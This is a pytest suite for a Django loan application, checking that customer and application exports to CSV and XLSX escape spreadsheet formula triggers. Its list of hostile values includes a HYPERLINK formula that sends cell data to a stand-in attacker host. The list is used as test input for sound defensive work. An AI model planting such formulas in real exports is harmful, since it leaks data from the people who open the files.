"""Exports never hand a spreadsheet a live formula (CSV and XLSX, customers and applications)."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse
from django.utils import timezone

from loans.models import LoanApplication
from loans.resources import COLUMNS as APPLICATION_COLUMNS
from loansite.exports import FormulaEscapingResource, formula_escape
from tests.loans.factories import ApplicationFactory, CustomerFactory, ProductFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_escape_neutralises_every_trigger(value):
    escaped = formula_escape(value)
    assert escaped == "'" + value


@pytest.mark.parametrize("value", ["Tea house", "", "-5", "+86", "-12.50", "1e5", "a=b", "中文=1"])
def test_formula_escape_keeps_plain_text_and_numbers(value):
    assert formula_escape(value) == value


def test_formula_escape_leaves_native_values_alone():
    when = timezone.now()
    assert formula_escape(Decimal("-5.00")) == Decimal("-5.00")
    assert formula_escape(-3) == -3 and formula_escape(None) is None and formula_escape(when) is when


def test_every_admin_export_escapes_formulas():
    """A new export (admin with django-import-export) must use the escaping resource base."""
    checked = 0
    for model_admin in admin.site._registry.values():
        if not hasattr(model_admin, "get_export_resource_classes"):
            continue
        for resource_class in model_admin.get_export_resource_classes(None):
            assert issubclass(resource_class, FormulaEscapingResource), resource_class
            checked += 1
    assert checked >= 5  # customers (2), applications (2), audit trail (1)


def _cells_xlsx(content: bytes):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _rows_csv(content: bytes):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture
def hostile_customer(db):
    return CustomerFactory(name=HOSTILE[0], address="=1+1", city="@Hangzhou")


def _export(client, url, fmt, resource, fields):
    response = client.post(url, {"format": fmt, "resource": resource, **dict.fromkeys(fields, "on")})
    assert response.status_code == 200, response.content[:500]
    return response.content


@pytest.mark.django_db
def test_customer_export_csv_and_xlsx_escape_formulas(client, make_user, hostile_customer):
    from customers.importing import COLUMNS

    client.force_login(make_user("officer", role="Loan officer"))
    url = reverse("admin:customers_customer_export")
    fields = [f"customerenglishresource_{c.field}" for c in COLUMNS]
    rows = _rows_csv(_export(client, url, "0", "0", fields))
    header, row = rows[0], rows[1]
    assert row[header.index("Name")] == "'" + HOSTILE[0]
    assert row[header.index("Address")] == "'=1+1" and row[header.index("City")] == "'@Hangzhou"
    assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in row)

    cells = _cells_xlsx(_export(client, url, "1", "0", fields))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert "'" + HOSTILE[0] in values and "'=1+1" in values
    # Money goes out as a number cell, not as text.
    revenue = next(c for c in cells if c.column == header.index("Monthly revenue") + 1 and c.row == 2)
    assert revenue.data_type == "n" and Decimal(str(revenue.value)) == hostile_customer.monthly_revenue


@pytest.mark.django_db
def test_application_export_csv_and_xlsx_escape_formulas(client, make_user, hostile_customer):
    product = ProductFactory()
    ApplicationFactory(customer=hostile_customer, product=product, status=LoanApplication.Status.SUBMITTED)
    client.force_login(make_user("auditor", role="Auditor"))
    url = reverse("admin:loans_loanapplication_export") + "?status=all"
    fields = [f"applicationresourceenglish_{key}" for key in APPLICATION_COLUMNS]
    rows = _rows_csv(_export(client, url, "0", "0", fields))
    header, row = rows[0], rows[1]
    assert row[header.index("Merchant name")] == "'" + HOSTILE[0]
    assert row[header.index("City")] == "'@Hangzhou"

    cells = _cells_xlsx(_export(client, url, "1", "0", fields))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + HOSTILE[0] in [c.value for c in cells]
    amount = next(c for c in cells if c.column == header.index("Amount") + 1 and c.row == 2)
    assert amount.data_type == "n"
